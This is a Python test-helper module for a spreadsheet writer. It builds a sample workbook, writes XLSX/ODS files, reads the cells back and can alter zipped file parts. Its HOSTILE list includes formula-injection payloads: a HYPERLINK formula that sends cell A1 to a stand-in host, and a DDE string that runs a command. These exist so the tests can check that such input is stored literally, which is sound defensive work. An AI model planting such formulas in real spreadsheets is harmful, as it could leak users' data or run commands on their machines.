"""A small workbook with every kind of cell, for the tests, and a way to break a written file."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from pathlib import Path

from python_calamine import CalamineWorkbook

from reports.spreadsheets import ods, xlsx
from reports.spreadsheets.book import Book, Column, Line, Number, Sheet

WRITERS = {"xlsx": xlsx.write, "ods": ods.write}
# Names that a file may hold, by accident or on purpose; each must be read as it stands.
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Vellow")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "@SUM(1+1)",
    "[Oxterby](http://x.example)",
    "$$Norrow$$ and $$1$$",
    "<b>Quillmarsh</b> & sons]]>",
    "two  blanks and a\nline break",
    " leading blank",
    "http://x.example",
    "Caerwyn – Ŵ 漢字",
]


def book(**changes: object) -> Book:
    """A workbook with every kind of cell; `changes` are of its first table."""
    columns = (
        Column("Service", is_quoted=True),
        Column("Value", "value"),
        Column("Marker"),
        Column("Last day"),
        Column("Numerator"),
    )
    rows = [
        ("Vellow", Number(57.2113, 1), "none", date(2024, 9, 30), Number(1234, 0)),
        ("Oxterby", "[c]", "[c]", date(2024, 9, 30), "[z]"),
        ("Norrow", Number(-0.5, 2), "[p]", date(2024, 12, 31), "[x]"),
    ]
    given = {"name": "Latest", "title": "Values of Vellow", "columns": columns, "rows": rows, "quoted": "Vellow"}
    first = Sheet(lines=(Line("Read from files."),), **given | changes)  # type: ignore[arg-type]
    return Book(
        "Vellow",
        (("About", (Line("One service."),)),),
        (first, Sheet("Gaps", "What is missing", (), (Column("Why"),), ())),
        {"value": "As published."},
        quoted="Vellow",
        is_fictional=True,
        created=datetime(2026, 11, 22, 9, 30),
    )


def written(made: Book, folder: Path, kind: str, name: str = "made") -> Path:
    """A workbook as a file."""
    path = folder / f"{name}.{kind}"
    WRITERS[kind](made, path)
    return path


def cells(path: Path) -> dict[str, list[list[object]]]:
    """Every cell of a file, as a spreadsheet program reads it."""
    opened = CalamineWorkbook.from_path(str(path))
    return {name: opened.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in opened.sheet_names}


def edited(path: Path, part: str, pattern: str, replacement: str) -> Path:
    """A file with a part altered: what the pattern finds first is replaced, and something must be found."""
    to = path.with_name(f"edited_{path.name}")
    found = 0
    with zipfile.ZipFile(path) as before, zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            content = before.read(name)
            if re.fullmatch(part, name):
                text, n = re.subn(pattern, replacement, content.decode("utf-8"), count=1)
                content, found = text.encode("utf-8"), found + n
            after.writestr(name, content)
    assert found, f"nothing in {part} is like {pattern}"
    return to
